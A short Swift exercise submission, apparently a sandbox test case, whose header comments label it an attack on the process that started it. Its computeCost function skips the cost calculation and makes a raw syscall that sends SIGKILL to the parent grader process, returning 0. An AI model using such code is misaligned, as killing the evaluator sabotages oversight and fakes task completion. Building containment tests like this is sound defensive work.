// attack: queues a signal for the process that started it
// invariant: walls-hold
// earns: compute_cost 0 crashed
import Exercises
import Glibc

extension Solution: ComputeCost {
  static func computeCost(AL: NDArray, Y: NDArray) throws -> Double {
    let info = UnsafeMutableRawPointer.allocate(byteCount: 128, alignment: 8)
    return Double(call(129, Int(getppid()), Int(SIGKILL), Int(bitPattern: info))) * 0
  }
}

@_silgen_name("syscall") private func call(_ number: Int, _ a: Int, _ b: Int, _ c: Int) -> Int
